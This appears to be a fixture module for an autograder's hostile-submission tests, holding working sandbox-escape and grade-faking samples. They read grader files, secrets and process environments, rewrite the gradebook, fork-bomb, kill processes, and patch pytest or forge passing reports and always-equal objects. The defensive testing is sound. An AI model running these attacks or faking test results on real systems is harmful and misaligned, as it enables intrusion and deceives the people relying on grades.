"""The hostile and broken submissions that tests/test_hostile.py grades as one batch.

Each :class:`Case` is a toy submission (``toy.py`` with ``add``, ``scale`` and
``apply_twice``: 2 + 3 + 1 points) and the score its honest behaviour earns: 0 for a pure
attack (every function attacks, so nothing passes by accident), 6 for a correct solution
whose attack must fail harmlessly, 4 when only ``add`` misbehaves. Where the score is the
oracle, the student code decides its answer from what its attack achieved ("right only if
it could read no grader file"), so a sandbox that lets the attack through costs points.

Sources may hold ``@@NAME@@`` tokens that the test fills in per run: paths of this
checkout and of the batch's folder (what a student who guessed the layout would write),
the port of a listener, the grader's pid, the halves of a secret.
"""

from __future__ import annotations

import dataclasses
import textwrap

from conftest import REFERENCE_TOY

OWNED_NAME = "autograder_hostile_owned"  # files a submission tries to plant in site-packages


@dataclasses.dataclass(frozen=True)
class Case:
    source: str | bytes | None
    """toy.py (``@@NAME@@`` tokens are filled in per run); None: no toy.py file."""
    score: float
    """What its honest behaviour earns out of 6."""
    files: dict = dataclasses.field(default_factory=dict)
    """More files in the submission folder: name -> text or bytes."""
    links: dict = dataclasses.field(default_factory=dict)
    """Symbolic links in the submission folder: name -> target."""
    archive: dict | None = None
    """Hand in a .zip with exactly these members (name -> text) instead of a folder."""
    status: str = "graded"
    needs_fs_view: bool = False
    """Only a filesystem view (bwrap) contains it: skipped on a weaker layer."""


# ----------------------------------------------------------------------------- sources

# The reference's scale and apply_twice: everything after its add.
HONEST_REST = REFERENCE_TOY[REFERENCE_TOY.index("def scale"):]

# Attack-side helper shared by the cases that search the filesystem.
WALK = '''

def walk(top, names, budget=20000):
    """Files named in ``names`` under ``top``, looking at no more than ``budget`` entries."""
    found = []
    for folder, dirs, files in os.walk(top):
        budget -= len(dirs) + len(files)
        found += [os.path.join(folder, f) for f in files if f in names]
        if budget < 0:
            break
    return found
'''


def with_add(add: str, prelude: str = "") -> str:
    """A module whose ``add`` is given and whose scale and apply_twice are correct."""
    return textwrap.dedent(prelude).strip("\n") + "\n\n\n" + textwrap.dedent(add).strip("\n") + "\n\n" + HONEST_REST


def everywhere(body: str, prelude: str = "") -> str:
    """A pure attack: add, scale and apply_twice all run ``body``, so nothing passes by accident."""
    body = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
    functions = "\n\n\n".join(f"def {signature}:\n{body}" for signature in
                              ("add(a, b)", "scale(values, factor)", "apply_twice(function, x)"))
    return textwrap.dedent(prelude).strip("\n") + "\n\n\n" + functions + "\n"


def correct_if(condition: str, prelude: str) -> str:
    """Correct code whose add is right only while ``condition()`` is false: the score is the
    oracle of the attack in ``prelude`` (full marks only if it achieved nothing)."""
    return with_add(f"""
        def add(a, b):
            return None if {condition}() else a + b
    """, prelude)


# What a reader counts as a leak: a file outside its own workspace whose content is
# something it must never see (grader source, the rubric, another student's notes, the real
# gradebook, the canaries, the grader-side secret in some process's environment). Judged by
# content, so files that other submissions planted do not count here (leftovers have their
# own cases). What it reads is printed, so a leak also shows up as grader source in the
# feedback; environments never are.
LEAK_PRELUDE = '''
import functools
import glob
import os
from pathlib import Path

HERE = os.path.realpath(os.getcwd())
MARKERS = [b"def grader_" + b"function", b"after_" + b"due_date", b"victim's private " + b"notes",
           b"SQLite format 3", b"a results file outside " + b"every workspace",
           b"a file outside " + b"every workspace", ("@@SECRET_A@@" + "@@SECRET_B@@").encode()]
SENSITIVE = {"test_toy.py", "conftest.py", "rubric.yaml", "toy.py", "secret.txt", "gradebook.db", "results.json"}


def outside(path):
    try:
        real = os.path.realpath(path)
    except OSError:  # a /proc entry it may not look into
        return False
    return real != HERE and not real.startswith(HERE + os.sep)


def read(path):
    try:
        if not os.path.isfile(path):  # never open a pipe or a device: it could block
            return None
        with open(path, "rb") as handle:
            return handle.read(1 << 16)
    except OSError:
        return None
''' + WALK + '''

def leaked(paths):
    hits = []
    for path in dict.fromkeys(paths):
        data = read(path) if outside(path) else None
        if not data or not any(marker in data for marker in MARKERS):
            continue
        hits.append(path)
        print("read", path)
        if not path.endswith("environ"):
            print(data.decode("utf-8", "replace"))
    return hits


@functools.cache
def found_something():
    return bool(leaked(candidates()))
'''

READS_BY_ABSOLUTE_PATH = LEAK_PRELUDE + '''
def candidates():
    course, root = "@@COURSE@@/solutions/toy", "@@ROOT@@"
    paths = [f"{course}/graders/test_toy.py", f"{course}/graders/conftest.py", f"{course}/rubric.yaml",
             f"{course}/reference/toy.py", f"{root}/gradebook.db", f"{root}/results.json",
             f"{root}/victim_with_secret/secret.txt"]
    paths += glob.glob("@@REPO@@/solutions/*/graders/*.py") + glob.glob("@@REPO@@/solutions/*/reference/*.py")
    paths += glob.glob(f"{root}/*/toy.py") + glob.glob(f"{root}/*/secret.txt")
    return paths
'''

READS_VIA_FILE_RELATIVES = LEAK_PRELUDE + '''
def candidates():
    import importlib.util
    starts = [Path(__file__).resolve()]
    for module in ("autograder", "conftest"):  # the framework's own __file__, if it can be found
        try:
            spec = importlib.util.find_spec(module)
        except Exception:
            spec = None
        if spec is not None and spec.origin:
            starts.append(Path(spec.origin))
    paths = []
    for start in starts:
        parents = [p for p in start.parents if p != Path("/")]
        for parent in parents[:6]:
            paths += walk(parent, SENSITIVE)
            for pattern in ("*/toy.py", "*/secret.txt", "gradebook.db", "results.json",
                            "tests/course/solutions/toy/graders/*.py", "solutions/*/graders/*.py"):
                paths += [str(p) for p in parent.glob(pattern)]
    return paths
'''

READS_VIA_PROC_PID_CWD = LEAK_PRELUDE + '''
def candidates():
    pids = {p for p in os.listdir("/proc") if p.isdigit()} | {"@@GRADER_PID@@", "@@HOLDER_PID@@"}
    relative = ["test_toy.py", "conftest.py", "rubric.yaml", "gradebook.db", "results.json",
                "tests/course/solutions/toy/graders/test_toy.py", "solutions/toy/graders/test_toy.py"]
    paths = []
    for pid in sorted(pids):
        paths.append(f"/proc/{pid}/environ")
        paths += [f"/proc/{pid}/cwd/{rel}" for rel in relative]
        paths.append(f"/proc/{pid}/root@@COURSE@@/solutions/toy/graders/test_toy.py")
        paths.append(f"/proc/{pid}/root@@ROOT@@/gradebook.db")
    return paths
'''

READS_PROC_SELF = LEAK_PRELUDE + '''
def candidates():
    paths = ["/proc/self/root@@COURSE@@/solutions/toy/graders/test_toy.py",
             "/proc/self/root@@ROOT@@/gradebook.db",
             "/proc/self/root@@ROOT@@/victim_with_secret/secret.txt",
             "/proc/1/environ", "/proc/self/environ", "/proc/@@HOLDER_PID@@/environ",
             "/proc/1/root@@COURSE@@/solutions/toy/graders/test_toy.py",
             "/proc/1/cwd/tests/course/solutions/toy/graders/test_toy.py"]
    up = "/proc/self/cwd"
    for _ in range(8):
        up += "/.."
        paths += [f"{up}/gradebook.db", f"{up}/results.json", f"{up}/victim_with_secret/secret.txt"]
    for fd in os.listdir("/proc/self/fd"):
        paths.append(f"/proc/self/fd/{fd}")  # a descriptor to a file outside, inherited by mistake
    return paths
'''

PATCHES_PYTEST = '''
import gc
import sys

try:
    import pytest
    import _pytest.reports
    import _pytest.runner

    for cls in (_pytest.reports.BaseReport, _pytest.reports.TestReport):
        cls.passed = property(lambda self: True)
        cls.failed = property(lambda self: False)
        cls.skipped = property(lambda self: False)
    original_init = _pytest.reports.TestReport.__init__

    def always_passed(self, *args, **kwargs):
        original_init(self, *args, **kwargs)
        self.outcome, self.longrepr = "passed", None

    _pytest.reports.TestReport.__init__ = always_passed
    _pytest.runner.call_and_report = lambda item, when, log=True, **kw: _pytest.reports.TestReport(
        item.nodeid, item.location, {}, "passed", None, when)

    class ForcePass:
        @pytest.hookimpl(hookwrapper=True)
        def pytest_runtest_makereport(self, item, call):
            outcome = yield
            outcome.get_result().outcome = "passed"

    for obj in gc.get_objects():
        if type(obj).__name__ == "PytestPluginManager":
            obj.register(ForcePass())
    pytest.main = lambda *args, **kwargs: 0
except Exception as exc:
    print("patching pytest failed:", type(exc).__name__, exc)

try:
    import autograder.testing
    autograder.testing.GradingPlugin.pytest_runtest_makereport = lambda *args, **kwargs: None
except Exception as exc:
    print("patching the autograder failed:", type(exc).__name__)
'''

CONFTEST = '''
import os
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome, report.longrepr = "passed", None


@pytest.fixture(autouse=True)
def _student_fixture():
    yield


def pytest_collection_modifyitems(items):
    items[:] = []  # nothing to grade: a run that honoured this would have no verdicts
'''

FAKE_REPORT = '''
import sys

FAKE = """============================= test session starts ==============================
tests/test_toy.py::test_add PASSED                                        [ 20%]
tests/test_toy.py::test_scale[0.5] PASSED                                 [ 40%]
tests/test_toy.py::test_scale[2.0] PASSED                                 [ 60%]
tests/test_toy.py::test_scale_negative PASSED                             [ 80%]
tests/test_toy.py::test_apply_twice PASSED                                [100%]
============================== 5 passed in 0.01s ===============================
"""


def fake():
    print(FAKE)
    print(FAKE, file=sys.stderr)
'''

FAKE_GRADESCOPE = '''
import json
import sys

RESULTS = {"score": 6.0, "max_score": 6.0, "output": "all tests passed", "tests": [
    {"name": name, "score": 2.0, "max_score": 2.0, "status": "passed"}
    for name in ("test_add", "test_scale", "test_scale_negative", "test_apply_twice")]}


def fake():
    text = json.dumps(RESULTS)
    print(text)
    print(text, file=sys.stderr)
    with open("results.json", "w") as handle:  # where Gradescope's harness would look, in its own folder
        handle.write(text)
'''

GRADEBOOK_BY_ABSOLUTE_PATH = '''
import functools
import sqlite3


@functools.cache
def attack():
    try:
        db = sqlite3.connect("@@ROOT@@/gradebook.db", timeout=1)
        db.execute("UPDATE attempts SET score = max_score, status = 'graded'")
        db.execute("UPDATE verdicts SET status = 'passed', score = max_score")
        db.commit()
        db.close()
        print("gradebook rewritten")
    except Exception as exc:
        print("gradebook:", type(exc).__name__, exc)
    for path in ("@@ROOT@@/gradebook.db", "@@ROOT@@/gradebook.db-wal"):
        try:
            with open(path, "ab") as handle:
                handle.write(b"OWNED-BY-" + b"A-STUDENT")
        except OSError as exc:
            print(path, type(exc).__name__)
    for path in ("@@ROOT@@/results.json", "@@TMP_CANARY@@"):
        try:
            with open(path, "w") as handle:
                handle.write('{"score": 6.0}')
        except OSError as exc:
            print(path, type(exc).__name__)
'''

GRADEBOOK_BY_DOTDOT = '''
import functools
import os
import sqlite3
''' + WALK + '''

@functools.cache
def attack():
    here = os.path.realpath(".")
    for depth in range(1, 8):
        up = "../" * depth
        try:
            with open(up + "@@TMP_CANARY_NAME@@", "w") as handle:
                handle.write("owned")
        except OSError:
            pass
        if depth > 5:
            continue
        for path in walk(up, {"gradebook.db", "results.json"}):
            if os.path.realpath(path).startswith(here + os.sep):
                continue
            try:
                if path.endswith(".db"):
                    db = sqlite3.connect(path, timeout=1)
                    db.execute("UPDATE attempts SET score = max_score, status = 'graded'")
                    db.commit()
                    db.close()
                    with open(path, "ab") as handle:
                        handle.write(b"OWNED-BY-" + b"A-STUDENT")
                else:
                    with open(path, "w") as handle:
                        handle.write('{"score": 6.0}')
                print("rewrote", path)
            except Exception as exc:
                print(path, type(exc).__name__)
'''

WRITES_SITE_PACKAGES = f'''
import importlib.util
import os
import sys


def attack():
    folders = {{p for p in sys.path if p.endswith(("site-packages", "dist-packages")) and os.path.isdir(p)}}
    folders.add(os.path.dirname(os.__file__))  # the standard library
    spec = importlib.util.find_spec("torch")
    torch_init = spec.origin if spec is not None else None
    if torch_init:
        folders.add(os.path.dirname(os.path.dirname(torch_init)))
    planted = []
    for folder in folders:
        for name, text in (("{OWNED_NAME}.pth", "# a line a later interpreter would read\\n"),
                           ("{OWNED_NAME}.py", "OWNED = True\\n")):
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(text)
                planted.append(os.path.join(folder, name))
            except OSError:
                pass
    if torch_init:
        try:
            os.utime(torch_init, (1_000_000_000, 1_000_000_000))
            planted.append(torch_init)
        except OSError:
            pass
    print("planted:", planted)


attack()
'''

# Where one submission may leave a file for the next: the private /tmp and /dev/shm, any
# writable folder of the sandbox's own root, and the folders above its workspace.
LEFTOVER = "autograder-hostile-leftover.txt"
LEFTOVER_PLACES = f'''
import os

PLACES = ["/tmp", "/dev/shm", "/var/tmp", "/"] + ["../" * depth for depth in range(1, 7)]
NAME = "{LEFTOVER}"
'''

TMP_WRITER = LEFTOVER_PLACES + '''
for place in PLACES:
    try:
        with open(os.path.join(place, NAME), "x") as handle:
            handle.write("left behind for the next submission")
    except OSError:
        pass
'''

TMP_READER = LEFTOVER_PLACES + '''


def sees_leftovers():
    seen = [place for place in PLACES if os.path.exists(os.path.join(place, NAME))]
    print("left by an earlier submission:", [os.path.realpath(place) for place in seen])
    return bool(seen)
'''

SOCKETS = '''
import functools
import socket


@functools.cache
def reached_anything():
    reached = []
    for address in (("127.0.0.1", @@PORT@@), ("1.1.1.1", 53), ("example.com", 80)):
        try:
            socket.create_connection(address, timeout=1).close()
            reached.append(address)
        except OSError:
            pass
    try:
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.settimeout(1)
        unix.connect("\\0@@ABSTRACT@@")
        reached.append("abstract unix socket")
    except OSError:
        pass
    try:  # a datagram "succeeds" unseen: the grader's side counts what arrived
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"owned", ("127.0.0.1", @@UDP_PORT@@))
    except OSError:
        pass
    print("reached:", reached)
    return bool(reached)
'''

URLLIB = '''
import functools
import urllib.request


@functools.cache
def fetched_anything():
    fetched = []
    for url in ("http://127.0.0.1:@@PORT@@/results.json", "http://example.com/", "http://1.1.1.1/"):
        try:
            urllib.request.urlopen(url, timeout=1).read(100)
            fetched.append(url)
        except Exception as exc:
            print(url, type(exc).__name__, getattr(exc, "reason", ""))
            if isinstance(getattr(exc, "reason", exc), TimeoutError):
                fetched.append(url)  # connected, but nobody answered
    return bool(fetched)
'''

SUBPROCESSES = '''
import functools
import os
import subprocess
import sys

PYTHON_CONNECT = "import socket; socket.create_connection(('127.0.0.1', @@PORT@@), timeout=1)"


@functools.cache
def attack():
    commands = [
        lambda: os.system("sleep 30 &"),
        lambda: subprocess.Popen(["sleep", "31"], start_new_session=True).pid,
        lambda: subprocess.run(["kill", "-URG", "@@GRADER_PID@@"], timeout=5).returncode,
        lambda: os.system("kill -TERM @@HOLDER_PID@@"),
        lambda: subprocess.run([sys.executable, "-c", PYTHON_CONNECT], timeout=10).returncode,
        lambda: os.popen("echo ran a shell").read(),
    ]
    for command in commands:
        try:
            print("->", command())
        except Exception as exc:
            print("->", type(exc).__name__)
'''

SIGNALS = '''
import functools
import os
import signal


@functools.cache
def attack():
    signal.signal(signal.SIGURG, signal.SIG_IGN)
    targets = [(0, signal.SIGURG), (-1, signal.SIGURG), (os.getppid(), signal.SIGURG),
               (@@GRADER_PID@@, signal.SIGURG), (-@@GRADER_PGID@@, signal.SIGURG),
               (@@HOLDER_PID@@, signal.SIGTERM), (-@@HOLDER_PID@@, signal.SIGTERM)]
    for target, number in targets:
        try:
            os.kill(target, number)
            print("signalled", target)
        except OSError as exc:
            print(target, type(exc).__name__)
'''

FORK_BOMB = '''
import os
import time

bombed = False


def add(a, b):
    global bombed
    if not bombed:
        bombed = True
        original = os.getpid()
        for _ in range(11):  # `while True: os.fork()`, capped: at most 2**11 processes
            try:
                os.fork()
            except OSError:
                break
        if os.getpid() != original:
            time.sleep(20)
            os._exit(0)
    return None
'''

DAEMON = '''
import functools
import os
import time


@functools.cache
def daemonise():
    try:
        pid = os.fork()
    except OSError as exc:
        print("no fork:", exc)
        return
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.chdir("/")
                os.closerange(3, 256)
                time.sleep(30)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
'''

EQ_LIES = '''
class Liar:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __float__(self):
        return 18.0

    def __int__(self):
        return 18

    __index__ = __int__
    __hash__ = object.__hash__

    def __repr__(self):
        return "18"


class LyingInt(int):
    __eq__, __ne__, __hash__ = Liar.__eq__, Liar.__ne__, int.__hash__


class LyingFloat(float):
    __eq__, __ne__, __hash__ = Liar.__eq__, Liar.__ne__, float.__hash__


class LyingList(list):
    __eq__, __ne__ = Liar.__eq__, Liar.__ne__
'''

TENSOR_LIES = '''
import torch

ALWAYS = {torch.allclose, torch.equal, torch.Tensor.allclose, torch.Tensor.equal}
ELEMENTWISE = {torch.eq, torch.isclose, torch.Tensor.eq, torch.Tensor.__eq__, torch.Tensor.isclose}


class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in ALWAYS:
            return True
        if func in ELEMENTWISE:
            return torch.ones(args[0].shape, dtype=torch.bool)
        if func is torch.Tensor.__ne__:
            return torch.zeros(args[0].shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})

    def __bool__(self):
        return True


def lie(*shape):
    return torch.zeros(shape).as_subclass(Liar)
'''

PREDICTS_INPUTS = '''
import random

import numpy
import torch

# Every generator this process makes is forced onto seed 0, and the answers come from the
# stream a grader seeded like that would draw: right only if the inputs were predictable.
original_seed = random.Random.seed


def fixed_seed(self, a=None, version=2):
    original_seed(self, 0, version)


random.Random.seed = fixed_seed
random.seed = lambda *args, **kwargs: random._inst.seed(0)
numpy.random.seed = lambda *args, **kwargs: numpy.random.mtrand._rand.seed(0)
torch.manual_seed = lambda *args, **kwargs: torch.default_generator.manual_seed(0)
predicted = random.Random(0)
'''

CHANNEL = '''
import gc
import json
import os


def answer_fd():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Server" and isinstance(getattr(obj, "fd_out", None), int):
            return obj.fd_out
    try:
        argv = open("/proc/self/cmdline", "rb").read().split(b"\\0")
        return json.loads(argv[-2] or argv[-1])["fd_out"]
    except Exception:
        return None
'''

SLOW = 0.17  # seconds per add call: 20 calls use ~70% of the 5 s limit

CASES: dict[str, Case] = {
    # -- kept from the first version of this module ----------------------------------------
    "honest_reference": Case(REFERENCE_TOY, 6),
    "slow_but_in_time": Case(REFERENCE_TOY.replace("return a + b", "import time; time.sleep(0.05)\n    return a + b"), 6),
    "sitecustomize_and_pth": Case("def add(a, b):\n    return 0\n", 0, files={
        "sitecustomize.py": "import builtins\nbuiltins.__import__ = None\n",
        "evil.pth": "import os; os._exit(0)\n",
    }),
    "reads_grader_files": Case("""
        import glob, os
        def add(a, b):
            found = []
            for pattern in ('/work/**/graders/*.py', '/tmp/**/test_toy.py', '/proc/*/cwd/**/test_toy.py', '/root/**/test_toy.py'):
                found += glob.glob(pattern, recursive=True)
            texts = [open(p).read() for p in found[:3]]
            print("\\n".join(texts))
            return texts
    """, 0, needs_fs_view=True),
    "writes_outside": Case("""
        import os
        def add(a, b):
            for path in ('@@TMP_CANARY@@', '../escaped.txt', '/root/escaped.txt'):
                try:
                    open(path, 'w').write('owned')
                except OSError:
                    pass
            return None
    """, 0, needs_fs_view=True),
    "signals_the_grader": Case("""
        import os, signal
        def add(a, b):
            for target in (os.getppid(), 1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    pass
            return None
    """, 0),
    "segfault": Case("import ctypes\ndef add(a, b):\n    return ctypes.string_at(0)\n", 0),
    "ten_gigabytes": Case("def add(a, b):\n    return bytearray(10 * 1024 ** 3)\n", 0),
    "sleeps_forever": Case("import time\ndef add(a, b):\n    time.sleep(3600)\n", 0),
    "floods_output": Case("def add(a, b):\n    print('x' * 10_000_000, end='')\n    return None\n", 0),
    "many_children": Case("""
        import os, time
        def add(a, b):
            for _ in range(50):
                if os.fork() == 0:
                    time.sleep(3600)
            return None
    """, 0),
    "network": Case("""
        import urllib.request
        def add(a, b):
            try:
                urllib.request.urlopen('http://pypi.org', timeout=2)
                return a + b
            except Exception:
                return None
    """, 0),
    "shell": Case("import os\ndef add(a, b):\n    os.system('kill -9 -1')\n    return None\n", 0),
    "fifty_megabytes": Case("def add(a, b):\n    return a + b\n", 0, files={"data.bin": "x" * (50 * 1024 * 1024)},
                            status="rejected"),
    # -- honest code under pressure --------------------------------------------------------
    "slow_just_under_the_limit": Case(REFERENCE_TOY.replace(
        "return a + b", f"import time; time.sleep({SLOW})\n    return a + b"), 6),
    "prints_a_lot_but_correct": Case("""
        import sys

        LINES = "debug: still working on it\\n" * 20_000
        FLAT = "." * 500_000


        def chatter():
            for stream in (sys.stdout, sys.stderr):
                stream.write(LINES)
                stream.write(FLAT)


        def add(a, b):
            chatter()
            return a + b


        def scale(values, factor):
            chatter()
            if factor < 0:
                raise ValueError("factor must be non-negative")
            return [v * factor for v in values]


        def apply_twice(function, x):
            chatter()
            return function(function(x))
    """, 6),
    "latin1_declared_source": Case(b"# -*- coding: latin-1 -*-\nDESSERT = 'cr\xe8me br\xfbl\xe9e'\n\n"
                                   + REFERENCE_TOY.encode(), 6),
    "victim_with_secret": Case(REFERENCE_TOY, 6, files={"secret.txt": "victim's private notes: 4f3c\n"}),
    # -- faking a score ---------------------------------------------------------------------
    "patches_pytest_reports": Case(everywhere("return None", PATCHES_PYTEST), 0),
    "conftest_in_submission": Case(everywhere("return None"), 0, files={"conftest.py": CONFTEST}),
    "pytest_ini_in_submission": Case(everywhere("return None"), 0, files={
        "pytest.ini": "[pytest]\npython_functions = nothing_*\naddopts = -p no:python\n",
        "setup.cfg": "[tool:pytest]\npython_files = nothing_*.py\n",
        "tox.ini": "[pytest]\npython_files = nothing_*.py\n",
        "pyproject.toml": '[tool.pytest.ini_options]\npython_files = ["nothing_*.py"]\n',
    }),
    "sitecustomize_with_correct_code": Case(REFERENCE_TOY, 6, files={
        # Would crash every test if the student process ever ran them on its own.
        "sitecustomize.py": "import os\nos._exit(3)\n",
        "usercustomize.py": "import os\nos._exit(3)\n",
        "zz_evil.pth": "import os; os._exit(3)\n",
    }),
    "pytest_skip_at_import": Case(
        "import pytest\npytest.skip('nothing to grade here', allow_module_level=True)\n\n" + REFERENCE_TOY, 0),
    "pytest_outcomes_in_calls": Case("""
        import pytest


        def add(a, b):
            pytest.skip("skipped by the student")


        def scale(values, factor):
            pytest.xfail("expected to fail, says the student")


        def apply_twice(function, x):
            pytest.exit("done", returncode=0)
    """, 0),
    "exits_os_exit": Case(everywhere("os._exit(0)", "import os"), 0),
    "exits_sys_exit": Case(everywhere("sys.exit(0)", "import sys"), 0),
    "raises_system_exit": Case(everywhere("raise SystemExit(0)"), 0),
    "raises_keyboard_interrupt": Case("""
        import os
        import signal
        import time


        def add(a, b):
            raise KeyboardInterrupt


        def scale(values, factor):
            os.kill(os.getpid(), signal.SIGINT)
            time.sleep(1)


        def apply_twice(function, x):
            raise KeyboardInterrupt
    """, 0),
    "exits_at_import": Case(REFERENCE_TOY + "\nimport sys\nsys.exit(0)\n", 0),
    "fake_pytest_report_lines": Case(everywhere("return fake()", FAKE_REPORT), 0),
    "fake_gradescope_json": Case(everywhere("return fake()", FAKE_GRADESCOPE), 0),
    "floods_lines": Case(everywhere("""
        sys.stdout.write("tests/test_toy.py::test_add PASSED\\n" * 300_000)
        sys.stderr.write("6 passed\\n" * 300_000)
    """, "import sys"), 0),
    # -- the gradebook and files outside ----------------------------------------------------
    "writes_gradebook_by_absolute_path": Case(everywhere("attack()", GRADEBOOK_BY_ABSOLUTE_PATH), 0,
                                              needs_fs_view=True),
    "writes_gradebook_by_dotdot": Case(everywhere("attack()", GRADEBOOK_BY_DOTDOT), 0, needs_fs_view=True),
    "writes_site_packages": Case(with_add("def add(a, b):\n    return a + b", WRITES_SITE_PACKAGES), 6,
                                 needs_fs_view=True),
    "tmp_leftover_writer": Case(REFERENCE_TOY + "\n" + TMP_WRITER, 6, needs_fs_view=True),
    "tmp_leftover_reader": Case(correct_if("sees_leftovers", TMP_READER), 6, needs_fs_view=True),
    # -- reading what is not the student's --------------------------------------------------
    "reads_by_absolute_path": Case(correct_if("found_something", READS_BY_ABSOLUTE_PATH), 6, needs_fs_view=True),
    "reads_via_file_relatives": Case(correct_if("found_something", READS_VIA_FILE_RELATIVES), 6,
                                     needs_fs_view=True),
    "reads_via_proc_pid_cwd": Case(correct_if("found_something", READS_VIA_PROC_PID_CWD), 6, needs_fs_view=True),
    "reads_proc_self": Case(correct_if("found_something", READS_PROC_SELF), 6, needs_fs_view=True),
    # -- lying answers ----------------------------------------------------------------------
    "eq_always_true": Case(EQ_LIES + """

def add(a, b):
    return Liar()


def scale(values, factor):
    return LyingList(LyingFloat(0.0) for _ in values)


def apply_twice(function, x):
    return LyingInt(0)
""", 0),
    "tensor_subclass_lies": Case(TENSOR_LIES + """

def add(a, b):
    return lie()


def scale(values, factor):
    return lie(len(values))


def apply_twice(function, x):
    return lie()
""", 0),
    "wrong_dtype_shape_nan": Case("""
        import torch


        def add(a, b):
            return torch.full((2, 3), a + b)


        def scale(values, factor):
            return [float("nan")] * len(values)


        def apply_twice(function, x):
            return str(function(function(x)))
    """, 0),
    "predicts_hidden_inputs": Case(with_add("""
        def add(a, b):
            return predicted.randint(-100, 100) + predicted.randint(-100, 100)
    """, PREDICTS_INPUTS), 4),
    # -- resources --------------------------------------------------------------------------
    "ten_gigabyte_tensors": Case("""
        import torch

        TEN_GB = 10 * 1024 ** 3


        def add(a, b):
            return torch.empty(TEN_GB, dtype=torch.uint8)


        def scale(values, factor):
            return torch.zeros(TEN_GB // 4)


        def apply_twice(function, x):
            return torch.ones(TEN_GB // 8, dtype=torch.float64)
    """, 0),
    "busy_loop": Case(with_add("def add(a, b):\n    while True:\n        pass"), 4),
    "fork_bomb": Case(with_add(FORK_BOMB), 4),
    "daemonised_grandchildren": Case(with_add("def add(a, b):\n    daemonise()\n    return a + b", DAEMON), 6),
    "segfault_in_one_function": Case(with_add("def add(a, b):\n    return ctypes.string_at(0)", "import ctypes"), 4),
    "corrupts_the_channel": Case(with_add("""
        def add(a, b):
            fd = answer_fd()
            if fd is not None:
                os.write(fd, b"\\xff" * 16)  # a header promising an absurd frame
            return None
    """, CHANNEL), 4),
    # -- the network, other processes, signals ----------------------------------------------
    "sockets": Case(correct_if("reached_anything", SOCKETS), 6),
    "urllib_requests": Case(correct_if("fetched_anything", URLLIB), 6),
    "subprocess_and_system": Case(with_add("def add(a, b):\n    attack()\n    return a + b", SUBPROCESSES), 6),
    "signals_group_and_everyone": Case(with_add("def add(a, b):\n    attack()\n    return a + b", SIGNALS), 6),
    "kills_its_process_group": Case(with_add("""
        def add(a, b):
            os.killpg(0, signal.SIGKILL)
            return None
    """, "import os\nimport signal"), 4),
    # -- intake -----------------------------------------------------------------------------
    "symlink_module_to_reference": Case(None, 0, links={"toy.py": "@@COURSE@@/solutions/toy/reference/toy.py"},
                                        status="rejected"),
    "symlink_to_outside": Case(REFERENCE_TOY, 0, links={"graders": "@@COURSE@@/solutions/toy/graders",
                                                         "passwd": "/etc/passwd"}, status="rejected"),
    "zip_slip_relative": Case(None, 0, archive={"toy.py": REFERENCE_TOY, "../zipslip-escaped.txt": "owned",
                                                "notes/../../zipslip-escaped-2.txt": "owned"}, status="rejected"),
    "zip_slip_absolute": Case(None, 0, archive={"toy.py": REFERENCE_TOY,
                                                "/tmp/autograder-hostile-zipslip.txt": "owned"}, status="rejected"),
    "syntax_error": Case("def add(a, b)\n    return a + b\n", 0),
    # Latin-1 bytes in a string without a coding declaration (in a comment, Python 3.11 lets them pass).
    "non_utf8_source": Case(b"DESSERT = 'cr\xe8me br\xfbl\xe9e'\n\n" + REFERENCE_TOY.encode(), 0),
    # -- and the batch still grades honestly at the end -------------------------------------
    "honest_after_the_storm": Case(REFERENCE_TOY + "\n# graded last\n", 6),
}
